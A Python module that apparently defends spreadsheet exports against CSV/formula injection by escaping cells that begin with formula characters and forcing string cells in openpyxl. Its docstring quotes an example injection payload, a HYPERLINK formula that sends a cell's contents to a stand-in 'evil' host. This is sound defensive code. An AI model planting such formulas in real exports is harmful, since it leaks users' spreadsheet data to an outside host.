"""Cells written from user data into CSV and XLSX files, made inert.

A consignee named `=HYPERLINK("http://evil/?"&C2, "点击")` must stay a name when the file is
opened in Excel or WPS, not become a live formula (CSV/formula injection, OWASP). Every
export writes its rows through `csv_row` or `xlsx_row`; a test keeps it so.
"""

from decimal import Decimal, InvalidOperation

from openpyxl.cell import WriteOnlyCell

# What spreadsheet programs read as the start of a formula (tab and CR as well: some strip
# them and then see the next character).
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _is_formula_like(value) -> bool:
    if not isinstance(value, str) or not value.startswith(FORMULA_START):
        return False
    try:  # "-12.50" is a number, not a formula: leave money as it is
        Decimal(value)
    except InvalidOperation:
        return True
    return False


def csv_cell(value):
    """A CSV cell that no spreadsheet evaluates: a leading `'` (shown by Excel as text)."""
    return f"'{value}" if _is_formula_like(value) else value


def csv_row(row) -> list:
    return [csv_cell(value) for value in row]


def xlsx_row(sheet, row) -> list:
    """A row for `sheet.append` (write-only workbooks): a string cell stays a string,
    whatever it starts with, and reads exactly as typed."""
    cells = []
    for value in row:
        if _is_formula_like(value):
            cell = WriteOnlyCell(sheet, value=value)
            cell.data_type = "s"  # openpyxl would otherwise store it as a formula
            value = cell
        cells.append(value)
    return cells
